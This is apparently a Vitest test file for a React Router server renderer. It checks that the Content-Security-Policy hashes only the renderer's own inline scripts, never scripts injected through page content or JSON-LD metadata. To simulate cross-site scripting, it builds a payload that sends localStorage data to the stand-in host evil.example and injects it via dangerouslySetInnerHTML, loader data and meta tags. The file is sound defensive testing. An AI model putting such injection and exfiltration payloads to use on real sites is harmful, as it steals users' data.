import { createHash } from 'node:crypto'
import {
  createRequestHandler,
  Links,
  Meta,
  RouterContextProvider,
  Scripts,
  ScrollRestoration,
  type ServerBuild,
} from 'react-router'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import handleRequest, { handleError } from './entry.server.tsx'
import { PRE_HYDRATION_SCRIPT } from './lib/pre-hydration-script.ts'

beforeAll(() => void vi.stubEnv('PROD', true))
afterAll(() => void vi.unstubAllEnvs())

const STOLEN = 'fetch("https://evil.example/?" + localStorage.length)'

/** What a builder wrote about an instrument, had it ever come through as markup. */
function Instrument() {
  const words = `<script>${STOLEN}</script><script nonce="guessed">${STOLEN}</script><script async nonce>${STOLEN}</script>`
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that this test is about
  return <main dangerouslySetInnerHTML={{ __html: words }} />
}

const page = {
  default: Instrument,
  loader: () => ({ description: `</script><script>${STOLEN}</script>`, slow: Promise.resolve('later') }),
  meta: () => [{ title: 'Fern' }, { 'script:ld+json': { '@type': 'Product', description: `</script><script>${STOLEN}` } }],
  Layout: ({ children }: { children: React.ReactNode }) => (
    <html lang="en">
      <head>
        <Meta />
        <Links />
      </head>
      <body>
        {children}
        <ScrollRestoration />
        <Scripts />
      </body>
    </html>
  ),
}
const asset = { id: 'root', path: '', module: '/assets/root.js', hasLoader: true, imports: ['/assets/ui.js'] }
const build = {
  entry: { module: { default: handleRequest, handleError } },
  routes: { root: { id: 'root', path: '', module: page } },
  assets: {
    entry: { imports: [], module: '/assets/entry.js' },
    routes: { root: asset },
    url: '/assets/manifest.js',
    version: '1',
  },
  basename: '/',
  publicPath: '/',
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: 'lazy', manifestPath: '/__manifest' },
} as unknown as ServerBuild
const handle = createRequestHandler(build, 'production')

async function render() {
  const answer = await handle(new Request('http://shop.test/'), new RouterContextProvider())
  const policy = answer.headers.get('content-security-policy') ?? ''
  return { html: await answer.text(), hashes: policy.match(/'sha256-[^']+'/g) ?? [] }
}
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** Inline scripts as a browser would run them. */
function inlineScripts(html: string) {
  return [...html.matchAll(/<script(?![^>]*(?:\bsrc=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script)
}

test('a script that came into the page with somebody’s words is not in its policy, and all of the renderer’s own are', async () => {
  const { html, hashes } = await render()

  expect(html).toContain(`<script>${STOLEN}</script>`)
  expect(hashes).not.toContain(hashOf(STOLEN))
  const own = inlineScripts(html).filter((script) => script !== STOLEN)
  expect(own.length).toBeGreaterThanOrEqual(4)
  expect(hashes.toSorted()).toEqual([...new Set([PRE_HYDRATION_SCRIPT, ...own].map(hashOf))].toSorted())
})

test('what a page says to search engines is not in its policy, and words in it stay words', async () => {
  const { html, hashes } = await render()

  const [, data = ''] = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html) ?? []
  expect(JSON.parse(data)).toMatchObject({ description: `</script><script>${STOLEN}` })
  expect(hashes).not.toContain(hashOf(data))
})

test('a page holds nothing that differs from one rendering to the next: it may be kept and sent to many', async () => {
  const [first, second] = [await render(), await render()]
  expect(first).toEqual(second)
  expect(first.html.replace('nonce="guessed"', '')).not.toContain('nonce="')
})
